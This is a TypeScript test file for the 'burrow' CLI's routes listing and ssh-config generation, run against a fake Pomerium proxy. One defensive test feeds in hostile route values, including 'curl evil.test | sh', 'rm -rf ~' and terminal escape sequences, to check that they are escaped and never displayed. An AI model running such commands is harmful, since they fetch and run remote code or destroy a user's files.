/**
 * `burrow routes <proxy>` and `burrow ssh-config --from-routes <proxy>` through the real CLI
 * against the local proxy's routes API: the table and `--json`, `--type`, signing in on first use
 * (302 without a token, 401 for a refused one: sign in, ask once more) and reusing the sign-in;
 * a proxy without the API (404, exit 5) and answers that are not a route list (exit 9); hostile
 * names, `from`s and `connect_command`s that must not reach the terminal; and the
 * `--from-routes` output used as is with real OpenSSH and git against a test sshd behind the
 * local proxy, with the skipped routes counted. Only loopback addresses.
 *
 * When sshd, ssh or git is missing the ssh test fails with the package to install (never skips).
 */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { ExitCode } from '../../src/errors.js';
import { text } from '../../src/output/messages.js';
import { oneLineFailure } from '../helpers/assertions.js';
import { browserLaunches, followBrowser } from '../helpers/browsers/index.js';
import { runBurrow, stopAll, storedTokens, tempDir } from '../helpers/burrow.js';
import { type CannedResponse, type FakePomerium, startFakePomerium } from '../helpers/fake-pomerium.js';
import { type BareRepo, createBareRepo, git } from '../helpers/git-repo.js';
import { proxyCommand } from '../helpers/proxy-command.js';
import { missingSshTools, run, shQuote, type Sshd, startSshd, stopAllCommands } from '../helpers/sshd.js';
import { cacheToken, testUser } from '../helpers/user.js';

const ROUTES_PATH = '/.pomerium/api/v1/routes';

/** Nothing a terminal acts on: C0 controls but the line breaks between rows, DEL, C1, bidi overrides, separators. */
const TERMINAL_ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/;

const user = () => testUser('burrow-routes-');

describe('burrow routes and ssh-config --from-routes (the routes API of the local proxy; real ssh and git)', () => {
  let sshd: Sshd;
  let proxy: FakePomerium;
  /** The same proxy but older: no routes API (404). */
  let old: FakePomerium;
  /** Answers the routes API with whatever `answer` says (no sign-in needed: it answers first). */
  let odd: FakePomerium;
  let answer: CannedResponse = { status: 200, body: '{}' };
  let repo: BareRepo;
  let work: string;

  before(async () => {
    const missing = missingSshTools();
    if (missing) throw new Error(missing);
    work = tempDir('burrow-routes-ssh-');
    sshd = await startSshd();
    proxy = await startFakePomerium({
      routes: [
        { from: 'tcp+https://git.corp.test:22', to: `tcp://${sshd.address}` },
        { from: 'tcp+https://ops.corp.test:22', to: `tcp://${sshd.address}` },
        { from: 'tcp+https://db.corp.test:5432', to: `tcp://${sshd.address}` },
        { from: 'udp+https://dns.corp.test:53', to: 'udp://127.0.0.1:53' },
        { from: 'https://app.corp.test', to: 'http://127.0.0.1:9' },
      ],
    });
    old = await startFakePomerium({ routesApi: false });
    odd = await startFakePomerium({ respond: (request) => (request.url.startsWith(ROUTES_PATH) ? answer : undefined) });
    mkdirSync(join(work, 'srv'));
    repo = await createBareRepo(join(work, 'srv'), { bigFileBytes: 1024 * 1024 });
  });

  after(async () => {
    await stopAllCommands();
    await stopAll();
    await odd?.close();
    await old?.close();
    await proxy?.close();
    await sshd?.stop();
  });

  const routes = (p: FakePomerium, env: NodeJS.ProcessEnv, ...extra: string[]) =>
    runBurrow(['routes', p.url, '--alternate-ca-path', p.caPath, '--browser-cmd', followBrowser, ...extra], { env });

  it('the first use signs in (302 without a token, sign in, ask again) and prints the table; the next reuses the sign-in', async () => {
    const u = user();
    const before302 = proxy.stats.routesRequests[302] ?? 0;
    const first = await routes(proxy, u.env);
    assert.equal(first.code, 0, first.stderr);
    assert.equal(browserLaunches(u.log).length, 1, 'signed in once');
    assert.equal((proxy.stats.routesRequests[302] ?? 0) - before302, 1, 'asked once without a token');
    const lines = first.stdout.toString().trimEnd().split('\n');
    assert.match(lines[0]!, /^NAME +TYPE +FROM +COMMAND$/);
    const row = (from: string) => lines.find((line) => line.split(/ {2,}/)[2] === from)?.split(/ {2,}/);
    const pomeriumUrl = `--pomerium-url ${proxy.url}`;
    assert.deepEqual(row('tcp+https://git.corp.test:22'), ['git.corp.test:22', 'tcp', 'tcp+https://git.corp.test:22', `burrow tcp git.corp.test:22 ${pomeriumUrl}`]);
    assert.deepEqual(row('tcp+https://db.corp.test:5432'), ['db.corp.test:5432', 'tcp', 'tcp+https://db.corp.test:5432', `burrow tcp db.corp.test:5432 ${pomeriumUrl}`]);
    assert.deepEqual(row('udp+https://dns.corp.test:53'), ['dns.corp.test:53', 'udp', 'udp+https://dns.corp.test:53', `burrow udp dns.corp.test:53 ${pomeriumUrl}`]);
    assert.deepEqual(row('https://app.corp.test'), ['app.corp.test', 'http', 'https://app.corp.test', 'https://app.corp.test/']);
    assert.equal(lines.length, 6);
    assert.ok(first.stderr.includes(text.routesHttpHint(proxy.url)), first.stderr);
    const [token] = storedTokens(u.cache);
    assert.ok(token && !first.stderr.includes(token) && !first.stdout.toString().includes(token), 'the token is never printed');

    const second = await routes(proxy, u.env);
    assert.equal(second.code, 0, second.stderr);
    assert.equal(second.stdout.toString(), first.stdout.toString());
    assert.equal(browserLaunches(u.log).length, 1, 'no second sign-in');
    assert.deepEqual(storedTokens(u.cache), [token]);
  });

  it('a cached token the proxy refuses (401): sign in, ask once more', async () => {
    const other = await startFakePomerium();
    try {
      const u = user();
      cacheToken(u.cache, proxy.url, other.mintToken());
      const before401 = proxy.stats.routesRequests[401] ?? 0;
      const r = await routes(proxy, u.env, '--type', 'tcp');
      assert.equal(r.code, 0, r.stderr);
      assert.equal((proxy.stats.routesRequests[401] ?? 0) - before401, 1);
      assert.equal(browserLaunches(u.log).length, 1);
      assert.equal(r.stdout.toString().trimEnd().split('\n').length, 4, 'the header and the three tcp routes');
    } finally {
      await other.close();
    }
  });

  it('a service account: used as is; refused (401), one line and exit 3, never a browser', async () => {
    const other = await startFakePomerium();
    try {
      const u = user();
      const good = await routes(proxy, { ...u.env, BURROW_SERVICE_ACCOUNT: proxy.mintToken() }, '--type', 'udp');
      assert.equal(good.code, 0, good.stderr);
      assert.match(good.stdout.toString(), /^dns\.corp\.test:53 +udp /m);
      const foreign = other.mintToken();
      const refused = await routes(proxy, { ...u.env, BURROW_SERVICE_ACCOUNT: foreign });
      assert.equal(refused.code, ExitCode.authRequired);
      assert.equal(refused.stdout.length, 0);
      const line = oneLineFailure(refused.stderr, foreign);
      assert.ok(line.includes(text.routesSignInRequired(proxy.url, 401)), line);
      assert.ok(line.endsWith(text.serviceAccountRejectedHint), line);
      assert.deepEqual(browserLaunches(u.log), []);
    } finally {
      await other.close();
    }
  });

  it('--type filters; --json prints the route objects as the proxy sent them; an empty list is said on stderr, exit 0', async () => {
    const u = user();
    const udp = await routes(proxy, u.env, '--type', 'udp');
    assert.equal(udp.code, 0, udp.stderr);
    const rows = udp.stdout.toString().trimEnd().split('\n');
    assert.equal(rows.length, 2);
    assert.match(rows[1]!, /^dns\.corp\.test:53 +udp /);

    const sent = [
      { id: 'r1', name: 'Git', type: 'tcp', from: 'tcp+https://git.corp.test:22', description: 'the git server', connect_command: 'pomerium-cli tcp git.corp.test:22', logo_url: 'https://logo.test/g.png', extra: { n: 1 } },
      { id: 'r2', name: 'App', type: 'http', from: 'https://app.corp.test', description: '' },
    ];
    proxy.setPortalRoutes(sent);
    try {
      const json = await routes(proxy, u.env, '--json');
      assert.equal(json.code, 0, json.stderr);
      assert.equal(json.stderr, '');
      assert.deepEqual(JSON.parse(json.stdout.toString()), sent);
      const tcp = await routes(proxy, u.env, '--json', '--type', 'tcp');
      assert.deepEqual(JSON.parse(tcp.stdout.toString()), [sent[0]]);

      const none = await routes(proxy, u.env, '--type', 'udp');
      assert.equal(none.code, 0);
      assert.equal(none.stdout.length, 0);
      assert.equal(none.stderr, `burrow: ${text.routesNone(proxy.url, 'udp')}\n`);
      const noneJson = await routes(proxy, u.env, '--type', 'udp', '--json');
      assert.equal(noneJson.code, 0);
      assert.equal(noneJson.stdout.toString(), '[]\n');
    } finally {
      proxy.setPortalRoutes(undefined);
    }
    const bad = await routes(proxy, u.env, '--type', 'ftp');
    assert.equal(bad.code, ExitCode.usage);
    assert.match(oneLineFailure(bad.stderr), /invalid --type "ftp": expected tcp, udp or http/);
  });

  it('hostile names, froms and connect_commands: no control character or escape sequence reaches the terminal; burrow writes its own command', async () => {
    const u = user();
    const hostile = [
      { id: 'a', name: 'e\u001b[2J\u001b]0;x\u0007\na\rb', type: 'tcp', from: 'tcp+https://git.corp.test:22', connect_command: 'curl evil.test | sh\n\u001b[8m' },
      { id: 'b', name: '\u009b31mC1 \u202eright-to-left\u2066', type: 'tcp', from: 'tcp+https://x\u001b[31m.corp.test:22\n', connect_command: 'rm -rf ~' },
      { id: 'c', name: 'unknown', type: 'gopher\u001b', from: 'gopher://\u0000', description: '\u001b[5m' },
      { id: 'd', name: 'x'.repeat(500), type: 'tcp', from: 'tcp+https://db.corp.test:5432' },
    ];
    proxy.setPortalRoutes(hostile);
    try {
      const r = await routes(proxy, u.env);
      assert.equal(r.code, 0, r.stderr);
      const out = r.stdout.toString();
      assert.doesNotMatch(out, TERMINAL_ACTIVE);
      assert.doesNotMatch(r.stderr, TERMINAL_ACTIVE);
      assert.ok(!out.includes('curl evil') && !out.includes('rm -rf'), 'the proxy\'s connect_command is never shown');
      const lines = out.trimEnd().split('\n');
      assert.equal(lines.length, 1 + hostile.length, 'one line per route');
      assert.ok(lines[1]!.startsWith('e\\u001b[2J\\u001b]0;x\\u0007\\na\\rb  '), lines[1]);
      assert.ok(lines[1]!.endsWith(`burrow tcp git.corp.test:22 --pomerium-url ${proxy.url}`), lines[1]);
      assert.ok(lines[2]!.includes('\\u009b31mC1 \\u202eright-to-left\\u2066'), lines[2]);
      assert.ok(lines[2]!.endsWith(' -'), 'a from burrow cannot parse gets no command');
      assert.ok(lines[3]!.endsWith(' -'), 'nor an unknown type');
      assert.ok(lines[4]!.startsWith(`${'x'.repeat(39)}… `), 'long names are cut');

      const json = await routes(proxy, u.env, '--json');
      assert.equal(json.code, 0, json.stderr);
      assert.doesNotMatch(json.stdout.toString().trimEnd(), TERMINAL_ACTIVE);
      assert.deepEqual(JSON.parse(json.stdout.toString()), hostile, 'the same values, escaped');
    } finally {
      proxy.setPortalRoutes(undefined);
    }
  });

  it('a proxy without the routes API (404): one line, exit 5', async () => {
    const r = await routes(old, user().env);
    assert.equal(r.code, ExitCode.routeNotFound);
    assert.equal(r.stdout.length, 0);
    const line = oneLineFailure(r.stderr);
    assert.ok(line.includes(text.noRoutesApi(old.url)), line);
    assert.ok(line.endsWith(text.noRoutesApiHint), line);
    const ssh = await runBurrow(['ssh-config', '--from-routes', old.url, '--alternate-ca-path', old.caPath], { env: user().env });
    assert.equal(ssh.code, ExitCode.routeNotFound);
    assert.equal(ssh.stdout.length, 0);
  });

  it('answers that are not a route list: one protocol-error line, exit 9', async () => {
    const cases: Array<[CannedResponse, string]> = [
      [{ status: 200, headers: { 'Content-Type': 'text/html' }, body: '<!DOCTYPE html><title>Sign in</title>' }, text.routesNotJson(odd.url, '<!DOCTYPE html><title>Sign in</title>')],
      [{ status: 200, body: '' }, text.routesNotJson(odd.url, '')],
      [{ status: 200, body: '{"routes":{"a":1}}' }, text.routesBadShape(odd.url, text.routesNoList)],
      [{ status: 200, body: '[]' }, text.routesBadShape(odd.url, text.routesNoList)],
      [{ status: 200, body: '{"routes":[{"from":"tcp+https://a.test:22"},"x"]}' }, text.routesBadShape(odd.url, text.routesNotObject(2))],
      [{ status: 200, body: '{"routes":[{"name":"no from"}]}' }, text.routesBadShape(odd.url, text.routesNoFrom(1))],
      [{ status: 200, body: '\u001b[31m{' }, text.routesNotJson(odd.url, '?[31m{')],
      [{ status: 500, body: 'oops' }, text.routesStatus(odd.url, 500)],
    ];
    for (const [canned, expected] of cases) {
      answer = canned;
      const r = await routes(odd, user().env);
      assert.equal(r.code, ExitCode.proxyProtocol, `${JSON.stringify(canned)}: ${r.stderr}`);
      assert.equal(r.stdout.length, 0);
      const line = oneLineFailure(r.stderr);
      assert.ok(line.includes(expected), `${line}\nexpected: ${expected}`);
    }
    answer = { status: 403, body: 'no' };
    const denied = await routes(odd, user().env);
    assert.equal(denied.code, ExitCode.accessDenied);
    assert.ok(oneLineFailure(denied.stderr).includes(text.routesDenied(odd.url)));
  });

  it('ssh-config --from-routes: one Host block per tcp+https://host:22 route, used as is with ssh -F and git clone; the others counted on stderr', { timeout: 120_000 }, async () => {
    const u = user();
    const r = await runBurrow(['ssh-config', '--from-routes', proxy.url, '--user', sshd.user, '--alternate-ca-path', proxy.caPath, '--browser-cmd', followBrowser], {
      env: u.env,
      timeoutMs: 30_000,
    });
    assert.equal(r.code, 0, r.stderr);
    // The sign-in's notice, then the count.
    assert.ok(r.stderr.endsWith(`\nburrow: ${text.routesSshSkipped(3, 5, proxy.url)}\n`), r.stderr);
    assert.equal(browserLaunches(u.log).length, 1, 'signed in to ask for the routes');
    const config = r.stdout.toString();
    assert.deepEqual([...config.matchAll(/^Host (.+)$/gm)].map((m) => m[1]), ['git.corp.test', 'ops.corp.test']);
    const block = config.split('\n\n')[0]!;
    assert.ok(proxyCommand(block).includes(` tcp --listen - %h:%p --pomerium-url ${proxy.url} --browser-cmd ${followBrowser} --alternate-ca-path ${proxy.caPath}`), block);
    assert.match(block, new RegExp(`^  User ${sshd.user}$`, 'm'));
    // Each block as `burrow ssh-config <host> --pomerium-url <proxy>` writes it, but for its comment.
    const single = await runBurrow(['ssh-config', 'git.corp.test', '--pomerium-url', proxy.url, '--user', sshd.user, '--alternate-ca-path', proxy.caPath, '--browser-cmd', followBrowser], { env: u.env });
    const withoutComments = (s: string) => s.split('\n').filter((line) => !line.startsWith('#')).join('\n');
    assert.equal(withoutComments(block), withoutComments(single.stdout.toString()).trimEnd());

    const file = join(work, 'ssh-config-from-routes');
    writeFileSync(file, config);
    const knownHosts = sshd.knownHostsFor(['git.corp.test', 'ops.corp.test']);
    const sshCommand = ['ssh', '-F', file, ...sshd.clientArgs(knownHosts)];
    const dest = join(work, 'clone');
    await git(['clone', '-q', `git.corp.test:${repo.path}`, dest], { env: { ...u.env, GIT_SSH_COMMAND: sshCommand.map(shQuote).join(' ') }, timeoutMs: 60_000 });
    assert.equal((await git(['rev-parse', 'HEAD'], { cwd: dest })).trim(), repo.head);
    const ops = await run(sshCommand[0]!, [...sshCommand.slice(1), 'ops.corp.test', 'echo ok'], { env: { PATH: process.env.PATH, HOME: process.env.HOME, ...u.env }, timeoutMs: 30_000 });
    assert.equal(ops.code, 0, ops.stderr);
    assert.equal(ops.stdout.toString(), 'ok\n');
    assert.equal(browserLaunches(u.log).length, 1, 'ssh and git reused the sign-in');
  });

  it('ssh-config --from-routes with a default config file: its pomerium-url does not conflict and every block names the proxy; what it gives is left out', async () => {
    const u = user();
    const config = tempDir('burrow-routes-config-');
    mkdirSync(join(config, 'burrow'));
    writeFileSync(join(config, 'burrow', 'config.yaml'), `defaults:\n  pomerium-url: https://elsewhere.corp.test\n  alternate-ca-path: ${proxy.caPath}\n`);
    const r = await runBurrow(['ssh-config', '--from-routes', proxy.url], { env: { ...u.env, XDG_CONFIG_HOME: config, BURROW_SERVICE_ACCOUNT: proxy.mintToken() } });
    assert.equal(r.code, 0, r.stderr);
    const blocks = r.stdout.toString().split('\n\n');
    assert.equal(blocks.length, 2, r.stdout.toString());
    for (const block of blocks) {
      const command = proxyCommand(block);
      assert.ok(command.includes(` tcp --listen - %h:%p --pomerium-url ${proxy.url}`), block);
      assert.ok(!command.includes('elsewhere'), block);
      assert.ok(!command.includes('--alternate-ca-path'), `the default file gives it to the ProxyCommand's burrow: ${block}`);
    }
  });

  it('ssh-config --from-routes refuses --host and --pomerium-url, and checks its flags before asking the proxy', async () => {
    const u = user();
    const withHost = await runBurrow(['ssh-config', '--from-routes', proxy.url, '--host', 'x'], { env: u.env });
    assert.equal(withHost.code, ExitCode.usage);
    assert.ok(oneLineFailure(withHost.stderr).includes(text.conflictingFlags('--from-routes', '--host')));
    const requests = proxy.requests.length;
    const badFlag = await runBurrow(['ssh-config', '--from-routes', proxy.url, '--connect-timeout', 'soon'], { env: u.env });
    assert.equal(badFlag.code, ExitCode.usage);
    oneLineFailure(badFlag.stderr);
    assert.equal(proxy.requests.length, requests, 'nothing asked of the proxy');
    assert.deepEqual(browserLaunches(u.log), []);
  });
});
